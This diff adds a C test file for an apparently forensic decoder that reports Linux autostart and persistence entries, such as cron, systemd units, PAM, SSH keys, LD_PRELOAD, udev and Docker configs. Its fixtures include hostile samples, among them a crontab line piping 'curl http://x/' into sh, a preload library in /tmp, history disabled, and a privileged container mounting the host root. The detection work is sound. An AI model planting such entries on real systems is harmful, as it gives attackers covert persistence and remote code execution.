@@ -1,0 +1,148 @@
+#include <stdarg.h>
+
+#include "artefact/decode_lines_support.h"
+#include "test.h"
+
+/* The lines of all traces; the file's own path is shown as @. */
+static void expect(const char *path, const char *text, const char *want)
+{
+	struct decoded d = { .lines = buf_new((size_t)1 << 20) };
+	struct buf shown = buf_new((size_t)1 << 20);
+	struct span rest;
+
+	decode_into(&d, path, "text", span_text(text), 0100644);
+	rest = buf_span(&d.lines);
+	while (rest.len) {
+		size_t at = span_find(rest, 0, span_text(path));
+
+		buf_add(&shown, span_sub(rest, 0, at));
+		if (at != SIZE_MAX)
+			buf_add_u8(&shown, '@');
+		rest = span_from(rest, at == SIZE_MAX ? rest.len : at + strlen(path));
+	}
+	buf_add_u8(&shown, 0);
+	assert_string_equal((const char *)shown.at, want);
+	buf_free(&shown);
+	buf_free(&d.lines);
+}
+
+TEST(cron_tables_tell_user_and_program)
+{
+	expect("/r/etc/crontab", "# x\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
+	       "@reboot ann /bin/sh /opt/x.sh >/dev/null\nnonsense\n",
+	       "setting|cron variable|SHELL||/bin/sh||@:2\n"
+	       "autostart|cron|17 * * * *|root|cd / && run-parts --report /etc/cron.hourly|/etc/cron.hourly|@:3\n"
+	       "autostart|cron|@reboot|ann|/bin/sh /opt/x.sh >/dev/null|/opt/x.sh|@:4\n");
+	expect("var/spool/cron/crontabs/ann", "*/5 * * * * curl http://x/ | sh\n",
+	       "autostart|cron|*/5 * * * *|ann|curl http://x/ | sh|curl|@:1\n");
+	expect("etc/anacrontab", "1 5 cron.daily run-parts /etc/cron.daily\n",
+	       "autostart|cron|cron.daily|root|run-parts /etc/cron.daily|/etc/cron.daily|@:1\n");
+}
+
+TEST(at_jobs_tell_their_commands_and_owner)
+{
+	expect("var/spool/cron/atjobs/a0000101b2c3d4",
+	       "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nHOME=/root; export HOME\n"
+	       "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/tmp/x -v\n",
+	       "autostart|at|a0000101b2c3d4|root|/tmp/x -v|/tmp/x|@:10\n");
+}
+
+TEST(units_tell_what_they_start_and_as_whom)
+{
+	expect("usr/lib/systemd/system/a.service",
+	       "[Unit]\nDescription=A\n[Service]\nExecStart=-/usr/bin/a --x \\\n --y\nUser=ann\n"
+	       "Environment=\"LD_PRELOAD=/tmp/l.so\"\n[Install]\nWantedBy=multi-user.target\n",
+	       "autostart|unit|a.service|ann|-/usr/bin/a --x  --y|/usr/bin/a|@:4\n"
+	       "autostart|preload|a.service||LD_PRELOAD=/tmp/l.so|/tmp/l.so|@:7\n");
+	expect("etc/systemd/system/b.timer", "[Timer]\nOnCalendar=daily\nUnit=c.service\n",
+	       "autostart|timer|b.timer||daily|b.timer|@:2\n"
+	       "autostart|timer|b.timer||c.service|b.timer|@:3\n");
+	expect("etc/systemd/system/a.service.d/x.conf", "[Service]\nExecStartPost=/opt/y\n",
+	       "autostart|unit|a.service||/opt/y|/opt/y|@:2\n");
+}
+
+TEST(scripts_that_run_by_their_place_are_told_whole)
+{
+	expect("etc/init.d/x", "#!/bin/sh\n", "autostart|rc script|x|||@|@\n");
+	expect("etc/cron.daily/x", "#!/bin/sh\n", "autostart|cron|x|||@|@\n");
+	expect("etc/update-motd.d/10-x", "#!/bin/sh\n", "autostart|login banner|10-x|||@|@\n");
+	expect("etc/rc.local", "", "");
+}
+
+TEST(start_files_of_shells_tell_lines_that_do_more)
+{
+	expect("home/ann/.bashrc", "alias ll=ls\nexport HISTFILE=/dev/null\nnohup /tmp/.x &\n",
+	       "autostart|profile|.bashrc|||@|@\n"
+	       "setting|history off|.bashrc||export HISTFILE=/dev/null||@:2\n"
+	       "autostart|profile|.bashrc||nohup /tmp/.x &|/tmp/.x|@:3\n");
+	expect("etc/environment", "PATH=\"/usr/bin\"\nLD_PRELOAD=/x.so\n",
+	       "setting|environment|PATH||/usr/bin||@:1\n"
+	       "autostart|preload|LD_PRELOAD||/x.so|/x.so|@:2\n");
+}
+
+TEST(login_files_tell_modules_keys_and_rights)
+{
+	expect("etc/pam.d/su", "auth sufficient pam_rootok.so\n@include common-auth\n"
+	       "session [success=1 default=ignore] pam_exec.so quiet /usr/local/bin/x\n",
+	       "autostart|pam|su||auth sufficient pam_rootok.so|pam_rootok.so|@:1\n"
+	       "autostart|pam|su||session [success=1 default=ignore] pam_exec.so quiet /usr/local/bin/x|"
+	       "/usr/local/bin/x|@:3\n");
+	expect("root/.ssh/authorized_keys", "command=\"/bin/x y\",no-pty ssh-ed25519 AAAA me@there\n?\n",
+	       "autostart|ssh key|me@there|root|/bin/x y|/bin/x|@:1\n");
+	expect("etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\nann ALL=NOPASSWD: /usr/bin/vi\n",
+	       "setting|sudo|Defaults||env_reset||@:1\n"
+	       "autostart|sudoers|root|root|ALL=(ALL:ALL) ALL|ALL|@:2\n"
+	       "autostart|sudoers|ann|ann|ALL=NOPASSWD: /usr/bin/vi|/usr/bin/vi|@:3\n");
+	expect("etc/ssh/sshd_config", "PermitRootLogin yes\nAuthorizedKeysCommand /opt/k %u\n",
+	       "setting|ssh server|PermitRootLogin||yes||@:1\n"
+	       "autostart|ssh command|AuthorizedKeysCommand||/opt/k %u|/opt/k|@:2\n");
+}
+
+TEST(small_tables_tell_what_the_system_loads)
+{
+	expect("etc/ld.so.preload", "/lib/a.so /lib/b.so\n",
+	       "autostart|preload|/lib/a.so||/lib/a.so|/lib/a.so|@:1\n"
+	       "autostart|preload|/lib/b.so||/lib/b.so|/lib/b.so|@:1\n");
+	expect("etc/udev/rules.d/9.rules", "ACTION==\"add\", RUN+=\"/bin/sh /x.sh\", RUN{builtin}+=\"kmod\"\n",
+	       "autostart|udev|RUN|root|/bin/sh /x.sh|/x.sh|@:1\n");
+	expect("etc/modprobe.d/x.conf", "install usb-storage /opt/run\nblacklist y\n",
+	       "autostart|module|usb-storage|root|/opt/run|/opt/run|@:1\n");
+	expect("usr/lib/binfmt.d/x.conf", ":py:E::py::/usr/bin/py:\n",
+	       "autostart|binary format|py||/usr/bin/py|/usr/bin/py|@:1\n");
+	expect("home/ann/.config/autostart/x.desktop", "[Desktop Entry]\nExec=/opt/x %U\n",
+	       "autostart|xdg autostart|x.desktop|ann|/opt/x %U|/opt/x|@:2\n");
+	expect("etc/apt/apt.conf.d/9", "DPkg::Post-Invoke { \"/opt/x || true\"; };\nAPT::X \"1\";\n",
+	       "autostart|package hook|DPkg::Post-Invoke|root|/opt/x || true|/opt/x|@:1\n");
+	expect("etc/logrotate.d/x", "/var/log/x {\n postrotate\n  /opt/r\n endscript\n}\n",
+	       "autostart|log rotation|postrotate|root|/opt/r|/opt/r|@:3\n");
+	expect("usr/lib/python3/dist-packages/x.pth", "import os; os.system('x')\n../y\n",
+	       "autostart|python start|x.pth||import os; os.system('x')|@|@:1\n");
+}
+
+TEST(containers_tell_what_reaches_the_host)
+{
+	expect("var/lib/docker/containers/ab/config.v2.json",
+	       "{\"Name\":\"/web\",\"Path\":\"sh\",\"Args\":[\"-c\",\"x\"],\"Config\":{\"Image\":\"evil\"}}",
+	       "autostart|container|/web||sh -c x|sh|@\n"
+	       "setting|container image|/web||evil||@\n"
+	       "setting|container environment|/web||||@\n");
+	expect("var/lib/docker/containers/ab/hostconfig.json",
+	       "{\"Privileged\":true,\"Binds\":[\"/:/host\"]}",
+	       "setting|container privileged|ab||true||@\n"
+	       "setting|container mount|ab||/:/host||@\n");
+}
+
+TEST(set_id_programs_are_told_by_their_mode)
+{
+	struct decoded d = { .lines = buf_new(4096) };
+
+	decode_into(&d, "usr/bin/x", "elf", SPAN("\x7f" "ELF"), 0104755);
+	assert_int_equal(d.traces >= 1, 1);
+	assert_true(span_find(buf_span(&d.lines), 0, SPAN("autostart|set user id|x|")) != SIZE_MAX);
+	buf_free(&d.lines);
+}
+
+TEST(files_inside_packages_are_no_places)
+{
+	expect("x.deb!/data.tar.xz!/./etc/crontab", "17 * * * * root /x\n", "");
+}
